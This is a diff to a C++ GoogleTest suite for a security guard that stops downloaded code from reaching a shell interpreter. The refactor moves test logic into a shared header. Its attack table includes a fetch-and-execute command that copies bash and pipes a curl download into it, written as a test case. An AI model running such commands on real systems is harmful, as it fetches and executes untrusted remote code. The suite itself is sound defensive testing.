@@ -1,30 +1,10 @@
 // Code from the network reaches an interpreter: the attacks, in each mode.
-#include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
-#include "chain_site.h"
+#include "chain_attack.h"
 
 namespace davylamp::test {
 namespace {
-
-using testing::IsEmpty;
-
-enum class Order {
-    any,          // whichever comes first
-    reader_first, // the interpreter waits: the connect is refused and nothing is served
-    reader_late,  // the script is on its way: the interpreter dies at exec
-    fallback,     // a second downloader follows: where the first's end took the reader along, it
-                  // is served and writes to nobody
-};
-
-struct Attack {
-    const char* name;
-    const char* command;
-    Order order = Order::any;
-    const char* code = "CHAIN-001";
-};
-
-void PrintTo(const Attack& attack, std::ostream* stream) { *stream << attack.name; }
 
 // Until the script has been served.
 #define ONCE_SERVED "until [ -e @D/served ]; do sleep 0.01; done"
@@ -74,49 +54,14 @@ const Attack kAttacks[] = {
     {"a copied bash", "cp /bin/bash @D/bash; curl -s @URL | @D/bash"},
 };
 
-class Chain : public testing::TestWithParam<std::tuple<Attack, Mode>> {};
+using Chain = ChainAttack;
 
-TEST_P(Chain, Attack)
-{
-    const auto& [attack, mode] = GetParam();
-    ChainSite site;
-    GuardResult result = run_guard(mode, site.fill(attack.command));
-
-    EXPECT_EQ(result.exit_code, 86) << result.err;
-    Finding finding = result.first(attack.code);
-    if (mode == Mode::monitor) {
-        EXPECT_TRUE(exists(site.marker())) << "the attack itself does not work";
-        EXPECT_EQ(finding.action(), 3);
-        EXPECT_EQ(finding.disposition(), 15);
-        EXPECT_EQ(finding.json["unmapped"]["would_block"], true);
-        return;
-    }
-    EXPECT_FALSE(exists(site.marker())) << "the script ran\n" << result.out;
-    EXPECT_EQ(finding.action(), 2);
-    EXPECT_EQ(finding.disposition(), 2);
-    // Nothing is served where the connect was refused; else the interpreter, or the stage that
-    // feeds it, died before its first instruction.
-    if (attack.order == Order::reader_first) {
-        EXPECT_TRUE(finding.did("refuse")) << result.out;
-    }
-    if (attack.order == Order::reader_late || !finding.did("refuse")) {
-        EXPECT_TRUE(finding.did("kill_current")) << result.out;
-    } else if (attack.order != Order::fallback || mode == Mode::block) {
-        EXPECT_THAT(site.web.requests(), IsEmpty()) << result.out;
-    }
-    if (mode == Mode::kill) {
-        for (int pid : finding.pids())
-            EXPECT_FALSE(is_running(pid)) << pid << "\n" << result.out;
-    }
-}
+TEST_P(Chain, Attack) { expect_stopped(std::get<0>(GetParam()), std::get<1>(GetParam())); }
 
 INSTANTIATE_TEST_SUITE_P(Live, Chain,
                          testing::Combine(testing::ValuesIn(kAttacks),
                                           testing::Values(Mode::monitor, Mode::block, Mode::kill)),
-                         [](const auto& test) {
-                             return test_name(std::get<0>(test.param).name,
-                                              std::get<1>(test.param));
-                         });
+                         attack_name);
 
 // What tells kill from block: a downloader that would outlive the refusal, and the shell.
 TEST(ChainEnds, BlockLeavesTheDownloaderAlive)
